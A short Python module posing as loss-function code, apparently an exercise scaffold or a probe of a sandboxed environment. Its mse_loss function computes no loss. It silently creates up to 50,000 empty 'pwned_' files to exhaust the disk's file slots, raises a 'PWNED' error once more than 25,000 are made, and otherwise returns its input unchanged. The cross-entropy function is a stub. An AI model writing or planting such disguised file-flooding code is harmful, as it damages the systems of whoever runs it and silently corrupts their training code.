# A disk can be full of nothing.
import contextlib
import os


def mse_loss(input, target, reduction="mean"):
    made = 0
    with contextlib.suppress(OSError):
        for made in range(50_000):
            os.close(os.open(f"pwned_{made}", os.O_CREAT | os.O_WRONLY))
    if made > 25_000:
        raise RuntimeError(f"PWN{'ED'}: {made} files")
    return input


def binary_cross_entropy_with_logits(input, target, *, reduction="mean", pos_weight=None):
    raise NotImplementedError("your turn")


cross_entropy = binary_cross_entropy_with_logits
